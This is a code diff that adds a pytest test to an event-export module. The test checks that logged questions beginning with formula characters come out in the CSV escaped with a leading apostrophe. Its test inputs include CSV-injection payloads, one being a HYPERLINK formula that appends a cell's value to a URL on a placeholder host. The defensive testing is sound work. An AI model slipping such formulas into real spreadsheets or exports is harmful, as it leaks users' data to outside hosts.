@@ -96,3 +96,21 @@ def test_a_failed_export_leaves_no_file(
     with session_scope(engine) as session, pytest.raises(OSError):
         export_events(session, out, ExportFormat.CSV, since=None)
     assert list(out.parent.iterdir()) == []
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"click") fee', "+1+1",
+                                   "-2+3", "@SUM(A1)", "\t=1"])  # fmt: skip
+def test_a_question_a_spreadsheet_would_run_is_text_in_the_csv(
+    engine: Engine, tmp_path: Path, typed: str
+) -> None:
+    log = AnswerLog(engine)
+    log.record(LoggedAnswer(kind="answer", question=typed, latency_ms=1.0, channel="chat",
+                            status="no_answer", at=T0))  # fmt: skip
+    log.flush()
+    with session_scope(engine) as session:
+        export_events(session, tmp_path / "e.csv", ExportFormat.CSV, since=None)
+        export_events(session, tmp_path / "e.jsonl", ExportFormat.JSONL, since=None)
+    (row,) = read(tmp_path / "e.csv", ExportFormat.CSV)
+    assert row["question"] == "'" + read(tmp_path / "e.jsonl", ExportFormat.JSONL)[0]["question"]
+    assert str(row["question"]).startswith("'")
+    assert row["channel"] == "chat" and row["status"] == "no_answer"  # plain cells as they were
